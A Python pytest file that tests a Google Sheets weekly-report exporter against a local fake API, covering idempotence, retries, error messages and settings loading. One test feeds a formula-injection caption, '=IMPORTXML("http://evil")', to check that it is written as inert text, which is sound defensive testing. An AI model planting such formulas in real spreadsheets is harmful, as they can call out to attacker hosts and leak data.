"""The Google Sheets exporter over real HTTP against the sandbox's fake, with real gspread.

The key is generated per test run (`cryptography`), registered with the fake, and used through
the production path: google-auth signs the JWT, the fake's /token verifies it, gspread sends
Bearer requests. Call counts come from the fake's own request log.
"""

from __future__ import annotations

import os
import stat
import tomllib
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import numpy as np
import pytest

from sandbox import SandboxServer, start_sandbox
from services.config import load_settings
from services.errors import ConfigError, ReelboardError
from services.reports.errors import ReportError
from services.reports.sheets import (
    CHART_ID,
    SheetColumn,
    SheetsTarget,
    SheetTable,
    export_week,
    make_client,
    sheets_target,
)
from services.reports.sheets_errors import (
    SheetsKeyMalformed,
    SheetsKeyRejected,
    SheetsNotConfigured,
    SheetsNotFound,
    SheetsNotShared,
    SheetsQuotaExceeded,
    SheetsUnavailable,
)
from tests.sandbox.sheets_helpers import SheetsControl, service_account_info

VIDEO_ID = "7312345678901234567"  # 19 digits: a float would lose the last ones
SUMMARY_COLUMNS = [
    SheetColumn("Week", "text", 10),
    SheetColumn("Account", "text", 28),
    SheetColumn("Open ID", "text", 18),
    SheetColumn("Views gained", "int", 14),
    SheetColumn("Engagement rate", "percent", 14),
    SheetColumn("Data as of (UTC)", "datetime", 18),
]
VIDEO_COLUMNS = [
    SheetColumn("Video", "text", 48),
    SheetColumn("Video ID", "text", 22),
    SheetColumn("Views gained", "int", 14),
    SheetColumn("Posted", "date", 12),
]
AS_OF = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)


def summary_rows(week: str, accounts: dict[str, int]) -> list[list[Any]]:
    return [
        [week, name.title(), f"oid-{name}", views, 0.0425, AS_OF]
        for name, views in accounts.items()
    ]


def tables(week: str, videos: int = 3, accounts: dict[str, int] | None = None) -> list[SheetTable]:
    accounts = accounts or {"luna": 1200, "max": 300}
    video_rows = [
        [f"Video {i}", str(int(VIDEO_ID) + i), np.int64(1000 - i), date(2026, 11, 17)]
        for i in range(videos)
    ]
    return [
        SheetTable("Summary", SUMMARY_COLUMNS, summary_rows(week, accounts)),
        SheetTable("Top videos", VIDEO_COLUMNS, video_rows),
    ]


@pytest.fixture(scope="module")
def server() -> Iterator[SandboxServer]:
    with start_sandbox(port=0) as srv:
        yield srv


@pytest.fixture
def ctl(server) -> SheetsControl:
    control = SheetsControl(server.base_url)
    control.clear_faults()
    control.clear_log()
    return control


@pytest.fixture
def info(server, ctl) -> dict[str, Any]:
    key = service_account_info(server.base_url)
    ctl.register(key)
    return key


@pytest.fixture
def sleeps() -> list[float]:
    return []


def target_for(server, info, sid: str, sleeps: list[float], **options: Any) -> SheetsTarget:
    return SheetsTarget(
        lambda: make_client(info, api_url=server.base_url, sleep=sleeps.append, **options),
        sid,
        f"spreadsheet {sid}",
        info["client_email"],
        server.base_url,
    )


@pytest.fixture
def sid(ctl, info) -> str:
    return ctl.create([info["client_email"]])


@pytest.fixture
def target(server, info, sid, sleeps) -> SheetsTarget:
    return target_for(server, info, sid, sleeps)


def export(target: SheetsTarget, week: str = "2026-W47", **kwargs: Any):
    t = kwargs.pop("tables", None) or tables(week)
    return export_week(target, week=week, tables=t, summary=t[0].rows, **kwargs)


def tab(dump: dict[str, Any], title: str) -> dict[str, Any]:
    (sheet,) = [s for s in dump["sheets"] if s["properties"]["title"] == title]
    return sheet


def values(sheet: dict[str, Any]) -> list[list[Any]]:
    """The tab's user-entered values as a dense matrix (None for an empty cell)."""
    grid = sheet["properties"]["gridProperties"]
    out = [[None] * grid["columnCount"] for _ in range(grid["rowCount"])]
    for key, cell in sheet["cells"].items():
        r, c = map(int, key.split(":"))
        if "v" in cell:
            out[r][c] = next(iter(cell["v"].values()))
    return out


# --- idempotence ------------------------------------------------------------------------------


def test_exporting_a_week_twice_leaves_an_identical_spreadsheet(target, ctl, sid):
    first = export(target)
    dump_one = ctl.dump(sid)
    second = export(target)
    assert ctl.dump(sid) == dump_one
    assert first.tab_url == second.tab_url and first.tab_url.endswith("#gid=202647")
    week = tab(dump_one, "2026-W47")
    assert week["properties"]["sheetId"] == 202647
    assert week["properties"]["gridProperties"] == {
        "rowCount": 1 + 2 + 1 + 1 + 1 + 3,
        "columnCount": 6,
        "frozenRowCount": 1,
    }
    assert values(week)[0] == [c.name for c in SUMMARY_COLUMNS]
    assert week["cells"]["0:0"]["f"]["textFormat"] == {"bold": True}
    assert week["cells"]["1:4"]["f"]["numberFormat"] == {"type": "PERCENT", "pattern": "0.00%"}
    assert week["columns"]["0"] == 48 * 7 + 12  # the widest of the stacked tables' column A
    titles = [s["properties"]["title"] for s in dump_one["sheets"]]
    assert titles == ["Summary", "2026-W47", "Sheet1"]


def test_a_rerun_with_fewer_videos_shrinks_the_tab(target, ctl, sid):
    export(target, tables=tables("2026-W47", videos=8))
    export(target, tables=tables("2026-W47", videos=2))
    week = tab(ctl.dump(sid), "2026-W47")
    rows = values(week)
    assert week["properties"]["gridProperties"]["rowCount"] == 1 + 2 + 1 + 1 + 1 + 2
    assert [r[0] for r in rows[-2:]] == ["Video 0", "Video 1"]
    assert all(int(k.split(":")[0]) < len(rows) for k in week["cells"])


def test_summary_keeps_one_row_per_account_and_week_sorted_across_the_year_boundary(
    target, ctl, sid
):
    last_2024 = date(2024, 12, 23).isocalendar()
    first_2025 = date(2024, 12, 30).isocalendar()  # ISO year 2025, week 1
    w52 = f"{last_2024.year}-W{last_2024.week:02d}"
    w01 = f"{first_2025.year}-W{first_2025.week:02d}"
    assert (w52, w01) == ("2024-W52", "2025-W01")
    export(target, week=w01, tables=tables(w01, accounts={"luna": 1, "max": 2}))
    export(target, week=w52, tables=tables(w52, accounts={"max": 3}))
    export(target, week=w01, tables=tables(w01, accounts={"luna": 10, "max": 20}))
    export(target, week=w52, tables=tables(w52, accounts={"luna": 30}))
    dump = ctl.dump(sid)
    rows = values(tab(dump, "Summary"))
    assert [r[:4] for r in rows[1:]] == [
        ["2024-W52", "Luna", "oid-luna", 30],
        ["2024-W52", "Max", "oid-max", 3],
        ["2025-W01", "Luna", "oid-luna", 10],
        ["2025-W01", "Max", "oid-max", 20],
    ]
    assert tab(dump, "2024-W52")["properties"]["sheetId"] == 202452
    assert tab(dump, "2025-W01")["properties"]["sheetId"] == 202501


def test_one_chart_after_repeated_runs(target, ctl, sid):
    for week in ("2026-W46", "2026-W47", "2026-W47", "2026-W46"):
        export(target, week=week, tables=tables(week))
    dump = ctl.dump(sid)
    charts = [c for s in dump["sheets"] for c in s["charts"]]
    assert [c["chartId"] for c in charts] == [CHART_ID]
    assert tab(dump, "Summary")["charts"][0]["spec"]["title"] == "Views gained by week"
    source = charts[0]["spec"]["basicChart"]["series"][0]["series"]["sourceRange"]["sources"][0]
    assert source["endRowIndex"] == 1 + 4 and source["startColumnIndex"] == 3


def test_ids_and_formula_like_captions_stay_text(target, ctl, sid):
    t = tables("2026-W47", videos=1)
    t[1].rows[0][0] = '=IMPORTXML("http://evil")'
    t[1].rows.append(["nan row", VIDEO_ID, float("nan"), None])
    export(target, tables=t)
    cells = tab(ctl.dump(sid), "2026-W47")["cells"]
    first_video_row = 1 + 2 + 1 + 1 + 1
    assert cells[f"{first_video_row}:0"]["v"] == {"stringValue": '=IMPORTXML("http://evil")'}
    assert cells[f"{first_video_row}:1"]["v"] == {"stringValue": VIDEO_ID}
    assert cells[f"{first_video_row + 1}:1"]["v"] == {"stringValue": VIDEO_ID}
    assert "v" not in cells.get(f"{first_video_row + 1}:2", {})  # NaN became an empty cell
    assert cells[f"{first_video_row}:3"]["v"] == {"numberValue": 46343.0}  # 2026-11-17 serial


def test_at_most_six_calls_per_export_whatever_the_size(target, ctl, sid):
    big = tables("2026-W47", videos=400, accounts={f"acct{i:02d}": i for i in range(40)})
    first = export(target, tables=big)
    second = export(target, tables=big)
    calls = ctl.api_calls(sid)
    assert len(calls) == first.calls_made + second.calls_made
    assert first.calls_made <= 6 and second.calls_made <= 6
    methods = [(c["method"], c["path"].rsplit("/", 1)[-1].split(":")[-1]) for c in calls]
    assert methods.count(("POST", "batchUpdate")) == 4  # 1 layout + 1 values per export
    assert all(c["query"].get("valueInputOption") in (None, ["RAW"]) for c in calls)
    values_call = [c for c in calls if c["path"].endswith("values:batchUpdate")][-1]
    assert values_call["body"]["valueInputOption"] == "RAW"
    assert first.rows_written == 40 + 400 + 40


# --- retries and errors ---------------------------------------------------------------------


def test_429_then_success_honours_retry_after(target, ctl, sid, sleeps):
    ctl.fault(429, count=1, retry_after=7, method="POST")
    result = export(target)
    assert sleeps == [7.0]
    assert result.calls_made == 4  # metadata, 429'd batchUpdate, its retry, values
    assert len(ctl.api_calls(sid)) == 4
    assert tab(ctl.dump(sid), "2026-W47")["properties"]["sheetId"] == 202647


def test_quota_still_exhausted_after_five_tries(target, ctl, sid, sleeps):
    ctl.fault(429, count=50)
    with pytest.raises(SheetsQuotaExceeded) as caught:
        export(target)
    assert caught.value.retry_safe and "Wait a minute" in caught.value.message
    assert caught.value.calls_made == 5 and len(sleeps) == 4
    assert all(0 <= s <= 32 for s in sleeps)
    assert isinstance(caught.value, ReportError) and isinstance(caught.value, ReelboardError)


def test_server_errors_are_retried_then_reported(target, ctl, sleeps):
    ctl.fault(503, count=2)
    assert export(target).calls_made == 5
    ctl.fault(500, count=50)
    with pytest.raises(SheetsUnavailable):
        export(target)


def test_not_shared_names_the_service_account(server, ctl, info, sleeps):
    sid = ctl.create(["someone@example.com"])
    with pytest.raises(SheetsNotShared) as caught:
        export(target_for(server, info, sid, sleeps))
    message = caught.value.message
    assert info["client_email"] in message and "as Editor" in message
    assert sleeps == [] and not caught.value.retry_safe  # a 403 is never retried


def test_unknown_spreadsheet(server, info, sleeps):
    with pytest.raises(SheetsNotFound) as caught:
        export(target_for(server, info, "no-such-spreadsheet-key", sleeps))
    assert "no-such-spreadsheet-key" in caught.value.message


def test_revoked_key(server, ctl, info, sid, sleeps):
    ctl.revoke(info)
    with pytest.raises(SheetsKeyRejected) as caught:
        export(target_for(server, info, sid, sleeps))
    assert "invalid_grant" in caught.value.message and info["client_email"] in caught.value.message
    assert "PRIVATE KEY" not in caught.value.message


@pytest.mark.parametrize(
    "broken",
    [
        {"private_key": "-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n"},
        {"private_key": None},
    ],
)
def test_malformed_key(server, info, sid, sleeps, broken):
    bad = {k: v for k, v in {**info, **broken}.items() if v is not None}
    with pytest.raises(SheetsKeyMalformed) as caught:
        export(target_for(server, bad, sid, sleeps))
    assert "malformed" in caught.value.message
    assert "not a key" not in caught.value.message and "BEGIN" not in caught.value.message


def test_unreachable_api(info, sid, sleeps):
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]  # closed again when the block ends: nothing listens
    dead = f"http://127.0.0.1:{port}"
    key = {**info, "token_uri": f"{dead}/token"}
    t = SheetsTarget(
        lambda: make_client(key, api_url=dead, sleep=sleeps.append),
        sid,
        "x",
        info["client_email"],
        dead,
    )
    with pytest.raises(SheetsUnavailable) as caught:
        export(t)
    assert dead in caught.value.message and caught.value.retry_safe


# --- settings -------------------------------------------------------------------------------


def _toml_secrets(info: dict[str, Any], spreadsheet: str, api_url: str) -> str:
    lines = [
        "[sheets]",
        f'spreadsheet = "{spreadsheet}"',
        f'api_url = "{api_url}"',
        "",
        "[gcp_service_account]",
    ]
    for k, v in info.items():
        text = str(v).replace("\\", "\\\\").replace("\n", "\\n").replace('"', '\\"')
        lines.append(f'{k} = "{text}"')  # basic strings: \n becomes a newline again
    return "\n".join(lines) + "\n"


def test_gcp_service_account_toml_round_trip_exports(server, info, sid, ctl, sleeps):
    url = f"https://docs.google.com/spreadsheets/d/{sid}/edit#gid=0"
    secrets = tomllib.loads(_toml_secrets(info, url, server.base_url))
    settings = load_settings(secrets, environ={})
    assert settings.sheets is not None and settings.sheets.spreadsheet_key == sid
    assert settings.sheets.service_account["private_key"] == info["private_key"]
    assert "PRIVATE" not in repr(settings) and info["private_key_id"] not in repr(settings)
    result = export(sheets_target(settings, sleep=sleeps.append))
    assert result.spreadsheet_key == sid
    assert tab(ctl.dump(sid), "2026-W47")["properties"]["sheetId"] == 202647


def test_env_wins_over_secrets_and_problems_are_clear(server, info, tmp_path):
    key_file = tmp_path / "key.json"
    key_file.write_text(__import__("json").dumps(info))
    os.chmod(key_file, 0o600)
    secrets = tomllib.loads(
        _toml_secrets(
            {**info, "client_email": "other@x.com"}, "a" * 20, "https://sheets.googleapis.com"
        )
    )
    env = {
        "GOOGLE_APPLICATION_CREDENTIALS": str(key_file),
        "REELBOARD_SHEETS_SPREADSHEET": "b" * 30,
        "REELBOARD_SHEETS_API_URL": server.base_url,
    }
    sheets = load_settings(secrets, environ=env).sheets
    assert sheets is not None
    assert (sheets.spreadsheet_key, sheets.api_url, sheets.client_email) == (
        "b" * 30,
        server.base_url,
        info["client_email"],
    )
    os.chmod(key_file, 0o644)
    with pytest.raises(ConfigError, match="chmod 600"):
        load_settings(secrets, environ=env)
    literal = {
        "gcp_service_account": {**info, "private_key": info["private_key"].replace("\n", "\\n")},
        "sheets": {"spreadsheet": "c" * 20},
    }
    with pytest.raises(ConfigError, match="double quotes") as caught:
        load_settings(literal, environ={})
    assert "MII" not in str(caught.value)  # no key material in the message
    with pytest.raises(ConfigError, match="REELBOARD_SHEETS_SPREADSHEET"):
        load_settings({"gcp_service_account": info}, environ={})
    with pytest.raises(ConfigError, match="neither a spreadsheet key nor"):
        load_settings({"gcp_service_account": info, "sheets": {"spreadsheet": "x y"}}, {})
    assert load_settings({}, environ={}).sheets is None
    # A machine-wide GOOGLE_APPLICATION_CREDENTIALS alone (e.g. for gcloud) is not a Sheets setup.
    machine_wide = {"GOOGLE_APPLICATION_CREDENTIALS": "/nope.json"}
    assert load_settings({}, environ=machine_wide).sheets is None


def test_live_settings_without_sheets_are_not_configured():
    settings = load_settings(
        {
            "tiktok": {
                "client_key": "k",
                "client_secret": "s",
                "redirect_uri": "https://r.example.com/accounts",
            }
        },
        {},
    )
    with pytest.raises(SheetsNotConfigured, match="GOOGLE_APPLICATION_CREDENTIALS"):
        sheets_target(settings)


def test_sandbox_mode_exports_to_the_fake_with_a_generated_demo_key(server, tmp_path, sleeps):
    import requests

    settings = load_settings({}, environ={"REELBOARD_DATA_DIR": str(tmp_path)})
    settings = settings.with_endpoints(auth_url=server.auth_url, api_base_url=server.base_url)
    target = sheets_target(settings, sleep=sleeps.append)
    key_file = settings.sandbox_state_path.parent / "sheets-demo-key.json"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    result = export(target)
    again = sheets_target(settings)  # idempotent set-up: same key, same spreadsheet
    assert again.spreadsheet_key == target.spreadsheet_key
    assert again.client_email == target.client_email
    page = requests.get(result.tab_url, timeout=10)
    assert page.status_code == 200 and "2026-W47" in page.text and VIDEO_ID in page.text


def test_sheet_id_falls_back_when_taken_by_another_tab(server, info, target, ctl, sid):
    gc = make_client(info, api_url=server.base_url)
    gc.open_by_key(sid).batch_update(
        {"requests": [{"addSheet": {"properties": {"title": "Notes", "sheetId": 202647}}}]}
    )
    result = export(target)
    dump = ctl.dump(sid)
    assert tab(dump, "Notes")["properties"]["sheetId"] == 202647
    assert tab(dump, "2026-W47")["properties"]["sheetId"] == 10_202_647
    assert result.tab_url.endswith("#gid=10202647")
    export(target)  # looked up by title on the next run: same tab, same id
    assert tab(ctl.dump(sid), "2026-W47")["properties"]["sheetId"] == 10_202_647


def test_backoff_is_full_jitter_within_the_cap_and_honours_retry_after():
    import random

    import requests

    from services.reports.sheets import RetryHTTPClient, retry_after_seconds

    client = RetryHTTPClient(None, requests.Session())
    client.rng = random.Random(3)
    waits = [client.backoff(attempt, None) for attempt in range(12) for _ in range(20)]
    assert all(0 <= w <= client.cap for w in waits) and max(waits) > client.cap / 2
    response = requests.Response()
    response.headers["Retry-After"] = "Wed, 21 Oct 2099 07:28:00 GMT"
    assert retry_after_seconds(response) > 10**8
    assert client.backoff(0, response) == client.max_wait  # honoured, but bounded
    response.headers["Retry-After"] = "3"
    assert client.backoff(0, response) == 3.0
    assert client.timeout == (10, 60)


def test_a_disabled_sheets_api_is_not_reported_as_not_shared():
    import json

    import requests
    from gspread.exceptions import APIError

    from services.reports.sheets_errors import from_exception

    def api_error(message: str) -> APIError:
        response = requests.Response()
        response.status_code = 403
        response._content = json.dumps(
            {"error": {"code": 403, "message": message, "status": "PERMISSION_DENIED"}}
        ).encode()
        return APIError(response)

    where = {"spreadsheet": "k", "client_email": "sa@p.iam.gserviceaccount.com", "api_url": "u"}
    disabled = from_exception(
        api_error("Google Sheets API has not been used in project 1 before or it is disabled."),
        **where,
    )
    assert isinstance(disabled, SheetsNotConfigured) and "Enable it" in disabled.message
    denied = from_exception(api_error("The caller does not have permission"), **where)
    assert isinstance(denied, SheetsNotShared) and "sa@p.iam.gserviceaccount.com" in denied.message


def test_tabs_are_found_whatever_their_case(server, info, target, ctl, sid):
    gc = make_client(info, api_url=server.base_url)
    gc.open_by_key(sid).batch_update(
        {"requests": [{"addSheet": {"properties": {"title": "summary", "sheetId": 7}}}]}
    )
    export(target)
    export(target)
    titles = [s["properties"]["title"] for s in ctl.dump(sid)["sheets"]]
    assert titles.count("summary") == 1 and "Summary" not in titles
    assert values(tab(ctl.dump(sid), "summary"))[1][:2] == ["2026-W47", "Luna"]
